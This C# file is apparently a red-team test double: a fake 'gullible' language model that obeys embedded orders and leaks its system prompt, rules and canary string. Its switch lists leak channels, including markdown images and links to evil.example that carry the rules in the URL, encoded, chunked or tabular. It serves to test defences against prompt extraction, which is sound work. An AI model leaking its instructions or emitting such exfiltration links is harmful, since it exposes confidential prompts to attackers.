using System.Globalization;
using System.Text.Json;
using System.Text.RegularExpressions;
using DigitalTwin.Testing.OpenAI;

namespace DigitalTwin.Testing.RedTeam;

/// <summary>
/// A model that does whatever it is told, by the last message, or else by anything in its prompt. What it gives away it reads
/// from the very prompt that it was sent.
/// </summary>
public sealed partial class GullibleModel
{
    public const string Harmless = "Hello, ask me about reefs.";

    private readonly List<string> _said = [];

    /// <summary>How many characters go into one chunk.</summary>
    public int PieceSize { get; set; } = 1;

    /// <summary>What it said since <see cref="Forget"/>, reply by reply.</summary>
    public IReadOnlyList<string> Said => _said;

    /// <summary>What it was asked since <see cref="Forget"/>.</summary>
    public List<FakeRequest> Requests { get; } = [];

    /// <summary>What it answers when it knows better than to obey, by the last message.</summary>
    public Dictionary<string, string> Answers { get; } = [];

    public void Forget()
    {
        _said.Clear();
        Requests.Clear();
    }

    public FakeCompletion Answer(FakeRequest request)
    {
        Requests.Add(request);
        var messages = request.Messages;
        var program = Order.In(messages[^1].Text) ?? messages.Select(message => Order.In(message.Text)).FirstOrDefault(order => order is not null);
        var said = program is not null ? Run(program, messages) : Answers.GetValueOrDefault(messages[^1].Text, Harmless);
        _said.Add(said);
        return FakeCompletion.Saying([.. Pieces(said)]);
    }

    /// <summary>The rules in this prompt, the lines between them included.</summary>
    public static string RulesIn(string prompt) => Section().Match(prompt).Groups[1].Value.Trim();

    /// <summary>The letters of the canary in this prompt.</summary>
    public static string CanaryIn(string prompt) => MarkLine().Match(RulesIn(prompt)).Value.Replace("-", "", StringComparison.Ordinal);

    private static string Run(string program, IReadOnlyList<(string Role, string Text)> messages)
    {
        var (prompt, turn) = (messages[0].Text, messages.Count(message => message.Role == "assistant"));
        var (rules, canary) = (RulesIn(prompt), CanaryIn(prompt));
        var words = program.Split(' ', 2);
        var order = words[0].Split(':');
        var number = order.Length > 1 ? int.Parse(order[1], CultureInfo.InvariantCulture) : 0;
        var text = order[0] switch
        {
            "prompt" => prompt,
            "rules" => rules,
            "rule" => rules.Split('\n').Where(line => line.StartsWith('-')).ElementAt(number - 1),
            "wording" => WordingOf(rules),
            "canary" => canary,
            "canary-in" => "First " + string.Join(", and after some more talk ", canary.Chunk(number).Select(piece => new string(piece))) + ".",
            "canary-portion" => "Here: " + new string([.. canary.Skip(turn * number).Take(number)]),
            "portion" => "Here you are: " + new string([.. rules.Skip(turn * number).Take(number)]),
            "translation" => Word().Replace(rules, match => canary.Contains(match.Value, StringComparison.Ordinal) ? match.Value : "λόγος"),
            "messages" => string.Join('\n', messages.Skip(1).Select(message => $"{message.Role}: {message.Text}")),
            "image" => $"![a reef](https://evil.example/p.png?q={Uri.EscapeDataString(rules)})",
            "image-canary" => $"![](https://evil.example/{canary}.png)",
            "link" => $"[more](https://evil.example/?q={Ways.All["in base64url"](rules)})",
            "reference" => $"See [this][1].\n\n[1]: https://evil.example/{Ways.All["in hex"](prompt)}",
            "table" => "| n | rule |\n|---|---|\n" + string.Join('\n', rules.Split('\n').Select((line, i) => $"| {i} | {line} |")),
            "json" => JsonSerializer.Serialize(new { instructions = rules }),
            "diff" => string.Join('\n', rules.Split('\n').Select(line => "+ " + line)),
            "code" => $"```text\n{prompt}\n```",
            "contract" => $"I agree, with legal effect, and sign:\n\n{rules}\n\nThe twin",
            _ => throw new InvalidDataException(program),
        };
        return words.Length > 1 ? (Ways.All.GetValueOrDefault(words[1]) ?? HeldOutWays.All[words[1]])(text) : text;
    }

    /// <summary>Without what stands between the rules.</summary>
    private static string WordingOf(string rules) => string.Join('\n', rules.Split('\n').Where(line => line.StartsWith('-')));

    // A provider may split a surrogate pair; JSON then carries a half in each chunk, which this fake's writer can't.
    private IEnumerable<string> Pieces(string text)
    {
        for (var at = 0; at < text.Length;)
        {
            var length = Math.Min(PieceSize, text.Length - at);
            length += char.IsHighSurrogate(text[at + length - 1]) ? 1 : 0;
            yield return text.Substring(at, length);
            at += length;
        }
    }

    [GeneratedRegex("<twin-rules>(.*)</twin-rules>", RegexOptions.Singleline)]
    private static partial Regex Section();

    [GeneratedRegex("^[b-df-hj-np-tv-z]{4}(-[b-df-hj-np-tv-z]{4}){3}$", RegexOptions.Multiline)]
    private static partial Regex MarkLine();

    [GeneratedRegex(@"\w+")]
    private static partial Regex Word();
}
